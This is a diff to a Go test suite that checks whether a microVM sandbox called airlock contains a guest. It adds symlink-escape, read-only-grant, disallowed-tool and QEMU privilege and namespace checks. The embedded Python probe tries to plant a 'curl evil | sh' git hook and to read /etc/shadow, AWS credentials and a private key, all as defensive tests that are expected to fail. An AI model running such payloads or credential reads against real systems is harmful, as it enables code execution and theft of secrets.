@@ -82,7 +82,9 @@ func qemuPids() []int {
 // TestIsolationMicroVM: in one boot, a granted file is read and an
 // fs_write grant receives the output (owned by the caller), credentials
 // outside the grants do not exist, an fs_deny path inside a grant is
-// hidden and an existing git hooks folder is read-only, the granted host
+// hidden, an existing git hooks folder and the fs_read grant are
+// read-only, a symlink in a grant leads nowhere outside it, a tool not
+// allowed does not run, the granted host
 // answers through airlock's proxy (carried over the link) while a denied
 // host and a listener on the host's loopback get no connection (the guest
 // has no network device), the command runs on the guest's own kernel, and
@@ -111,6 +113,9 @@ func TestIsolationMicroVM(t *testing.T) {
 		t.Fatal(err)
 	}
 	gitRepo(t, tr.out)
+	if err := os.Symlink(tr.secret, filepath.Join(tr.work, "escape")); err != nil {
+		t.Fatal(err)
+	}
 	var allowedHits, deniedHits atomic.Int32
 	allowed := serve(t, &allowedHits, "hello from allowed")
 	deniedHost := serve(t, &deniedHits, "nope")
@@ -128,7 +133,7 @@ try:
     open(%q, "w").write("curl evil | sh"); bad.append("wrote a git hook")
 except OSError:
     pass
-for p in [%q, %q, "/etc/shadow", "/root", %q]:
+for p in [%q, %q, "/etc/shadow", "/root", %q, %q]:
     try:
         os.listdir(p) if p == "/root" else open(p).read(); bad.append("read " + p)
     except OSError:
@@ -138,10 +143,19 @@ for h, port in [(%q, %s), ("10.0.2.2", 80), ("1.1.1.1", 443)]:
         socket.create_connection((h, port), timeout=3); bad.append("connected to %%s:%%s" %% (h, port))
     except OSError:
         pass
+try:
+    open(%q, "w").write("x"); bad.append("wrote into fs_read")
+except OSError:
+    pass
+import subprocess
+try:
+    subprocess.run(["/usr/bin/id"], check=False); bad.append("ran a tool not allowed")
+except OSError:
+    pass
 print("kernel", os.uname().release)
 print("bad", bad)
 sys.exit(1 if bad else 0)`, allowed, deniedHost, tr.work+"/data.csv", tr.out+"/vm.txt", tr.out+"/.git/hooks/post-checkout", tr.secret, filepath.Join(tr.home, ".aws", "credentials"),
-		filepath.Join(denied, "key.pem"), host[0], host[1])
+		filepath.Join(denied, "key.pem"), filepath.Join(tr.work, "escape"), host[0], host[1], tr.work+"/new.txt")
 	rep := runVM(t, init, policy.Spec{FSRead: []string{tr.work}, FSWrite: []string{tr.out}, FSDeny: []string{denied}, NetHosts: []string{allowed},
 		AllowDowngrade: []string{"staged_writes"}}, "/usr/bin/python3", "-c", code)
 	wantExit(t, rep, 0)
@@ -338,6 +352,45 @@ func TestIsolationMicroVMSession(t *testing.T) {
 	}
 	if rep, err := s.Exec(ctx, sandbox.ExecRequest{Args: []string{"sh", "-c", "cat private/key.pem; echo rc=$?"}}); err != nil || strings.Contains(rep.Stdout, "DENIED") || !strings.Contains(rep.Stdout, "rc=1") {
 		t.Fatalf("reading the fs_deny file = %+v, %v", rep, err)
+	}
+	// QEMU runs in airlock's sandbox on the host: an unprivileged host uid,
+	// no capabilities, no_new_privs, a seccomp filter, its own pid and
+	// network namespaces, and a root holding only what it needs.
+	qemu := qemuPids()
+	if len(qemu) != 1 {
+		t.Fatalf("QEMU processes: %v, want one", qemu)
+	}
+	status, err := os.ReadFile(fmt.Sprintf("/proc/%d/status", qemu[0]))
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, want := range []string{"CapEff:\t0000000000000000", "CapPrm:\t0000000000000000", "CapBnd:\t0000000000000000", "NoNewPrivs:\t1", "Seccomp:\t2"} {
+		if !strings.Contains(string(status), want+"\n") {
+			t.Errorf("QEMU's status lacks %q:\n%s", want, status)
+		}
+	}
+	if strings.Contains(string(status), "Uid:\t0\t") {
+		t.Errorf("QEMU runs as host root:\n%s", status)
+	}
+	for _, ns := range []string{"pid", "net", "mnt", "user"} {
+		mine, _ := os.Readlink("/proc/self/ns/" + ns)
+		its, err := os.Readlink(fmt.Sprintf("/proc/%d/ns/%s", qemu[0], ns))
+		if err != nil || its == mine {
+			t.Errorf("QEMU shares the host's %s namespace (%s, %v)", ns, its, err)
+		}
+	}
+	var top []string
+	ents, err = os.ReadDir(fmt.Sprintf("/proc/%d/root/", qemu[0]))
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, e := range ents {
+		top = append(top, e.Name())
+	}
+	for _, name := range top {
+		if !slices.Contains([]string{".empty", "bin", "dev", "export", "lib", "lib32", "lib64", "libx32", "proc", "run", "sbin", "usr", "vm"}, name) {
+			t.Errorf("QEMU's root holds %q: %v", name, top)
+		}
 	}
 	rep, err = s.Exec(ctx, sandbox.ExecRequest{Args: []string{"sleep", "30"}, Timeout: 2 * time.Second})
 	if err != nil || rep.HaltedBy == nil {
